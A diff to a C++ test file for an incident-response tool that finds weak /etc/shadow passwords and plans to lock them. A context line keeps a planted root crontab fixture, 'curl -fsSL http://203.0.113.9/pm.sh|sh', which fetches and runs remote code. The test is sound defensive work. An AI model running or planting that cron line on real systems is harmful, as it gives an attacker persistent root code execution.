@@ -2,6 +2,7 @@
 // and a dropped set-uid script; after --apply a new triage finds no persistence, and --undo puts back every file
 // byte for byte with its owner, mode, times and extended attributes.
 #include <gtest/gtest.h>
+#include <crypt.h>
 #include <fcntl.h>
 #include <sys/stat.h>
 #include <sys/xattr.h>
@@ -118,6 +119,33 @@ TEST(Respond, ApplyRefusesTargetsInTheEvidence) {
   EXPECT_NE(apply.out.find("[refused]"), std::string::npos) << apply.out;
   EXPECT_TRUE(fs::exists(dir / "copy/var/spool/cron/crontabs/root"));
   EXPECT_EQ(test::read_file(dir / "copy/var/spool/cron/crontabs/root"), "* * * * * curl -fsSL http://203.0.113.9/pm.sh|sh\n");
+}
+
+// The baseline's weak-password check on Linux: hashes in /etc/shadow tried against the guessing lists at collection
+// (the password itself is never stored), then a finding and a lock step in the plan.
+TEST(Respond, WeakShadowPasswordsAreFoundAndLocked) {
+  test::TempDir dir;
+  const fs::path root = dir / "root";
+  crypt_data data{};
+  const std::string weak = ::crypt_r("admin123", "$6$minesweep$", &data);
+  const std::string named = ::crypt_r("deploy2025", "$5$minesweep$", &data);
+  const std::string strong = ::crypt_r("c0rrect-h0rse-battery-staple", "$6$minesweep$", &data);
+  test::write_file(root / "etc/passwd",
+                   "root:x:0:0:root:/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n"
+                   "deploy:x:1001:1001::/home/deploy:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n");
+  test::write_file(root / "etc/shadow", "root:" + strong + ":19000:0:99999:7:::\nops:" + weak + ":19000:0:99999:7:::\ndeploy:" +
+                                            named + ":19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n");
+  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
+  const auto report = nlohmann::json::parse(test::read_file(dir / "out/report.json"));
+  std::set<std::string> weak_users;
+  for (const auto& f : report["findings"])
+    if (f["rule_id"] == "heuristic.suspicious_account" && f["title_en"].get<std::string>().find("guessing lists") != std::string::npos)
+      weak_users.insert(f["observables"][0]["value"].get<std::string>());
+  EXPECT_EQ(weak_users, (std::set<std::string>{"ops", "deploy"}));
+  EXPECT_EQ(test::read_file(dir / "out/bundle/tables/accounts.jsonl").find("admin123"), std::string::npos);
+  bool lock = false;
+  for (const auto& p : report["plan"]) lock = lock || (p["kind"] == "rotate_credentials" && p["target"] == "ops");
+  EXPECT_TRUE(lock);
 }
 
 }  // namespace
